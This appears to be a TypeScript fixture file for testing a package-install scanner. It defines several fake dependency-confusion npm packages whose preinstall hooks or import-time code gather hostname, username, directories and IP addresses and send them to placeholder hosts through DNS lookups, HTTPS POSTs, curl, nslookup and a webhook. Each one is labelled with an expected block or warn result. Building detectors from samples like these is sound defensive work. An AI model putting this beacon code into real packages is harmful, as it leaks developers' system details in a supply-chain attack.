import { hooked, hex } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'dependency confusion: a beacon that says where it was installed';
const internal = { name: '@inert-corp/design-tokens', version: '99.0.3' };

export const specimens: readonly Specimen[] = [
  {
    name: 'confusion-dns-label',
    from,
    files: {
      'package.json': hooked('node ping.js', internal, 'preinstall'),
      'ping.js': `'use strict';
const dns = require('dns');
const os = require('os');
const label = Buffer.from(os.hostname() + '|' + os.userInfo().username).toString('hex').slice(0, 60);
dns.lookup(label + '.oob.invalid', () => {});
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'resolves name' },
  },
  {
    name: 'confusion-dns-promises',
    from,
    files: {
      'package.json': hooked('node scripts/report.mjs', { ...internal, type: 'module' }),
      'scripts/report.mjs': `import { resolve4 } from 'node:dns/promises';
import { hostname, userInfo } from 'node:os';
import { cwd } from 'node:process';

const parts = [hostname(), userInfo().username, cwd()].map(part => Buffer.from(part).toString('hex'));
for (const [index, part] of parts.entries()) {
  await resolve4(\`\${index}.\${part.slice(0, 50)}.oob.invalid\`).catch(() => {});
}
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'resolves name' },
  },
  {
    name: 'confusion-post-json',
    from,
    files: {
      'package.json': hooked('node index.js > /dev/null 2>&1', internal, 'preinstall'),
      'index.js': `const os = require("os");
const dns = require("dns");
const querystring = require("querystring");
const https = require("https");
const packageJSON = require("./package.json");
const package = packageJSON.name;

const trackingData = JSON.stringify({
    p: package,
    c: __dirname,
    hd: os.homedir(),
    hn: os.hostname(),
    un: os.userInfo().username,
    dns: dns.getServers(),
    r: packageJSON ? packageJSON.___resolved : undefined,
    v: packageJSON.version,
});

var postData = querystring.stringify({
    msg: trackingData,
});

var options = {
    hostname: "collab.invalid",
    port: 443,
    path: "/",
    method: "POST",
    headers: {
        "Content-Type": "application/x-www-form-urlencoded",
        "Content-Length": postData.length,
    },
};

var req = https.request(options, (res) => {
    res.on("data", (d) => {
        process.stdout.write(d);
    });
});

req.on("error", (e) => {});

req.write(postData);
req.end();
`,
    },
    expect: 'block',
  },
  {
    name: 'confusion-curl-hook',
    from,
    files: {
      'package.json': hooked('curl -s "http://beacon.invalid/?h=$(hostname)&u=$(whoami)&p=$(pwd | base64)"', internal, 'preinstall'),
      'index.js': 'module.exports = {};\n',
    },
    expect: 'block',
  },
  {
    name: 'confusion-nslookup',
    from,
    files: {
      'package.json': hooked('node -e "require(\'./lib/check\')"', internal),
      'lib/check.js': `const { exec } = require('child_process');
const { hostname, userInfo } = require('os');
exec('nslookup ' + hostname() + '.' + userInfo().username + '.dns.invalid');
`,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'confusion-public-address',
    from,
    files: {
      'package.json': hooked('node setup.js', internal),
      'setup.js': `const axios = require('axios');
const os = require('os');

async function main() {
  const nets = os.networkInterfaces();
  const internal = Object.values(nets).flat().filter(net => !net.internal).map(net => net.address);
  const external = await axios.get('https://address.invalid/json').then(res => res.data.ip).catch(() => null);
  await axios.post('https://discord.invalid/api/webhooks/1/INERT', {
    username: os.hostname(),
    content: ['user: ' + os.userInfo().username, 'internal: ' + internal.join(), 'external: ' + external, 'dir: ' + process.cwd()].join('\\n'),
  });
}

main().catch(() => {});
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'connects' },
  },
  {
    name: 'confusion-on-import',
    from,
    files: {
      'package.json': { ...internal, main: 'dist/index.js' },
      'dist/index.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.tokens = { space: 4 };
const os_1 = __importDefault(require("os"));
const http_1 = __importDefault(require("http"));
function __importDefault(mod) { return mod && mod.__esModule ? mod : { default: mod }; }
const who = Buffer.from('${hex('INERT')}', 'hex').toString() + os_1.default.hostname() + os_1.default.userInfo().username;
http_1.default.get('http://192.0.2.44:8080/' + encodeURIComponent(who)).on('error', () => { });
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'connects' },
  },
];
